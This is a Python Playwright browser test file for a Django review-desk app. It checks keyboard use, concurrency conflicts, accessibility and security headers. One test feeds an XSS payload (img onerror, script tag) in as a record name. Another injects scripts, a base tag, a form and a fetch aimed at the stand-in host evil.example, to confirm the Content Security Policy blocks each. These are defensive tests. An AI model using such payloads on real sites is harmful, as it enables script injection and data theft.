"""The desk in a real browser: by keyboard, without script, two people at once, and what a page may never do."""

from collections.abc import Iterator
from datetime import datetime, timedelta

import pytest
from axe_playwright_python.base import AXE_SCRIPT
from playwright.sync_api import Page, expect

from reviews.models import Approval, Review
from tests.browser.conftest import SignIn, enter, press
from tests.cast import Cast, bill, waiting_bill
from tests.desk import case_url
from tests.servers import wait_for

pytestmark = pytest.mark.django_db(transaction=True)
SIZES = ((1440, 900), (1024, 768), (390, 844))
THEMES = ("light", "dark")
RULES = {
    "runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
    "rules": {"label-content-name-mismatch": {"enabled": True}},  # whoever speaks to it says what is written on it
    "resultTypes": ["violations"],  # of what is as it should be, nothing is gathered
}


def test_a_person_signs_in_with_name_and_password(everybody: Cast, site: str, page: Page) -> None:
    page.goto(f"{site}/runs/")
    page.get_by_label("User name").fill("clerk")
    page.get_by_label("Password").fill("known")
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_title("Runs – Countersign")


def test_a_case_is_rejected_undone_and_corrected_by_keyboard_alone(everybody: Cast, sign_in: SignIn) -> None:
    first, second = waiting_bill(everybody, amount="9000.00"), waiting_bill(everybody)
    page = sign_in("clerk")
    press(page, "Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text(first.title)
    press(page, "r")
    expect(page.get_by_role("radio", name="Reject")).to_be_checked()
    press(page, "Tab", "Space", "Control+Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text(second.title)
    expect(page.get_by_role("heading", level=1)).to_be_focused()
    expect(page.locator("#toast")).to_contain_text("KB-1: rejected.")
    page.wait_for_timeout(450)  # keys are deaf for 400 ms after a swap, and that is what is relied on here
    press(page, "z")
    expect(page.locator("#toast")).to_contain_text("Undone.")
    expect(page.get_by_role("heading", level=1)).to_have_text(first.title)
    press(page, "1", "ArrowDown")
    expect(page.locator("#settled")).to_have_text("1 of 1 settled")
    press(page, "a", "Control+Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text(second.title)
    vote = Approval.objects.get(verdict="approve")
    assert vote.corrections == {"/read/invoice/lines/0/unit_price": "90.00"}
    assert vote.review.task_id == first.task_id


@pytest.mark.parametrize("settles", [0, 20, 6000])
def test_the_commit_key_does_not_decide_the_case_that_has_just_come(
    everybody: Cast, sign_in: SignIn, settles: int
) -> None:
    """Neither when it was fetched ahead, nor while htmx has shown it and not settled it, `settles` ms later."""
    waiting_bill(everybody, amount="9000.00")
    second = waiting_bill(everybody)
    page = sign_in("clerk")
    if settles:
        page.route(
            lambda _: True, lambda route: route.abort() if "x-ahead" in route.request.headers else route.continue_()
        )
    press(page, "Enter")
    page.get_by_role("radio", name="Reject").check()
    page.get_by_label("Duplicate").check()
    page.clock.set_fixed_time(datetime.now() + timedelta(seconds=10))  # the case stays new, however slow the machine
    page.evaluate("ms => { htmx.config.defaultSettleDelay = ms }", settles)
    press(page, "Control+Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text(second.title)
    press(page, "r", "Control+Enter")
    expect(page.get_by_role("radio", name="Reject")).not_to_be_checked()
    assert Approval.objects.count() == 1


def test_two_people_on_one_case_get_one_answer_and_one_conflict(everybody: Cast, sign_in: SignIn) -> None:
    review = waiting_bill(everybody)
    one, two = sign_in("clerk"), sign_in("second")
    for page in (one, two):
        page.goto(case_url(review))
    for page in (one, two):
        page.get_by_role("radio", name="Reject").check()
        page.get_by_label("Duplicate").check()
    with one.expect_response("**/decide/") as first:
        press(one, "Control+Enter")
    with two.expect_response("**/decide/") as second:
        press(two, "Control+Enter")
    assert (first.value.status, second.value.status) == (200, 409)
    expect(two.get_by_role("alert")).to_contain_text("Nothing was recorded")
    expect(two.get_by_role("alert")).to_be_focused()
    assert Approval.objects.count() == 1


def test_an_incomplete_answer_is_explained_where_the_focus_is(everybody: Cast, sign_in: SignIn) -> None:
    review = waiting_bill(everybody)
    page = sign_in("clerk")
    page.goto(case_url(review))
    press(page, "a", "Control+Enter")
    summary = page.get_by_role("group", name="The decision was not recorded")
    expect(summary).to_be_focused()
    summary.get_by_role("link").click()
    expect(page.locator("#f1")).to_be_in_viewport()
    expect(page.get_by_role("radio", name="Approve")).to_be_checked()


def test_everything_needed_works_without_script(everybody: Cast, sign_in: SignIn) -> None:
    first, second = waiting_bill(everybody, amount="9000.00"), waiting_bill(everybody)
    page = sign_in("clerk", java_script_enabled=False)
    page.get_by_role("button", name="Start reviewing").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(first.title)
    page.locator("#diff").get_by_role("radio", name="90.00").check()
    page.get_by_role("button", name="Save the draft and show what follows").click()
    expect(page.locator("#settled")).to_have_text("1 of 1 settled")
    page.get_by_role("radio", name="Approve").check()
    page.get_by_role("button", name="Record decision").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(second.title)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator("#toast")).to_contain_text("Undone.")
    assert Review.objects.filter(status=Review.Status.RECALLED).count() == 1


def test_single_keys_can_be_switched_off(everybody: Cast, sign_in: SignIn) -> None:
    review = waiting_bill(everybody)
    page = sign_in("clerk")
    page.goto("/me/")
    page.get_by_label("Single-key shortcuts").uncheck()
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Saved.")).to_be_visible()
    page.goto(case_url(review))
    page.keyboard.type("arte")
    expect(page.locator("[name=verdict]:checked")).to_have_count(0)


def test_markup_in_a_name_is_text_and_nothing_runs(everybody: Cast, sign_in: SignIn) -> None:
    name = '<img src=x onerror="document.title=1"><script>document.title=2</script>'
    bill(everybody, number=name, differences=1)
    page = sign_in("clerk")
    expect(page.get_by_role("link", name=name)).to_be_visible()
    page.get_by_role("link", name=name).click()
    expect(page.get_by_role("heading", level=1)).to_contain_text(name)
    assert page.locator("main img, main script").count() == 0


def test_the_run_page_changes_without_reloading_when_the_run_does(everybody: Cast, sign_in: SignIn) -> None:
    run = waiting_bill(everybody).run
    page = sign_in("requester")
    page.goto(f"/runs/{run.pk}/")
    expect(page.locator("#state")).to_have_attribute("hx-trigger", "every 15s")
    page.get_by_role("link", name="Find the vendor").or_(page.get_by_role("link", name="Vendor")).first.click()
    expect(page.get_by_role("complementary")).to_contain_text("cast.vendor")


SLIPPED_IN = """() => {
  const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
  add('script', { textContent: 'window.ran = 1' });
  add('script', { src: 'https://evil.example/script.js' });
  add('base', { href: 'https://evil.example/' });
  add('img', { src: 'https://evil.example/picture.png' });
  add('form', { action: 'https://evil.example/form', id: 'sent' });
  document.body.insertAdjacentHTML('beforeend', '<p onclick="window.ran = 1" id="pressed">');
  document.querySelector('#pressed').click(); document.querySelector('#sent').submit();
  fetch('https://evil.example/fetched').catch(() => 0);
}"""


def test_u20_what_was_slipped_into_a_page_is_blocked_and_told(
    everybody: Cast, site: str, page: Page, caplog: pytest.LogCaptureFixture
) -> None:
    enter(page.context, "clerk", site)
    page.goto(f"{site}/queue/")
    page.evaluate(SLIPPED_IN)
    blocked = ("script-src-elem", "script-src-attr", "base-uri", "img-src", "form-action", "connect-src")
    wait_for(lambda: all(f"{part!r} has blocked" in caplog.text for part in blocked), 60, "not all of it was told")
    assert page.evaluate("[typeof ran, document.baseURI]") == ["undefined", f"{site}/queue/"]


@pytest.mark.slow
def test_no_page_breaks_an_accessibility_rule_at_any_width_in_either_theme(everybody: Cast, sign_in: SignIn) -> None:
    review = waiting_bill(everybody)
    pages = ["/queue/", "/queue/?view=done", case_url(review), f"/runs/{review.run_id}/", "/runs/"]
    pages += ["/audit/", "/insights/", "/me/", "/help/keys/", "/start/"]
    found = []
    for theme in THEMES:
        page = sign_in("clerk", color_scheme=theme)
        for address in pages:
            page.goto(address)
            for width in widths(page):
                found += violations(page, f"{address} {width} {theme}")
    assert found == []


def widths(page: Page) -> Iterator[int]:
    """The page at one size after the other; it looks as if it had been loaded at it."""
    for width, height in SIZES:
        page.set_viewport_size({"width": width, "height": height})
        yield width


def violations(page: Page, where: str) -> list[str]:
    if not page.evaluate("'axe' in window"):
        page.evaluate(AXE_SCRIPT)
    broken = page.evaluate("rules => axe.run(document, rules).then(found => found.violations)", RULES)
    return [f"{where}: {rule['id']} {[node['target'] for node in rule['nodes']][:3]}" for rule in broken]


def test_no_page_scrolls_sideways_at_320_pixels(everybody: Cast, sign_in: SignIn) -> None:
    review = waiting_bill(everybody)
    page = sign_in("clerk", viewport={"width": 320, "height": 640})
    for address in ("/queue/", case_url(review), f"/runs/{review.run_id}/", "/runs/", "/audit/", "/me/"):
        page.goto(address)
        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, address
    page.set_viewport_size({"width": 320, "height": 256})  # 1280 by 1024 at 400 %: nothing lies over what is read
    page.goto(case_url(review))
    expect(page.locator("#decision")).to_have_css("position", "static")
